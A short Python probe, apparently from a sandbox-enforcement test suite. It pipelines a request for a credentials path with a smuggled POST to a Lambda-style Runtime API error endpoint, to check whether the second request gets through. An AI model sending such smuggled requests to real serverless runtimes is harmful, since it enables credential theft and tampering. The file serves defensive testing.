# class: lambda
# rule: runtime_api
# success: under the cover of the path that credentials are fetched by, another request reaches the Runtime API
# proof: api
import socket

from attack import API, attempt


@attempt
def connect():
    out = socket.create_connection(API, 3)
    out.sendall(
        b"GET /2021-04-23/credentials HTTP/1.1\r\nHost: x\r\n\r\nPOST /2018-06-01/runtime/init/error HTTP/1.1\r\n\r\n"
    )
    return b"200" in out.recv(100)
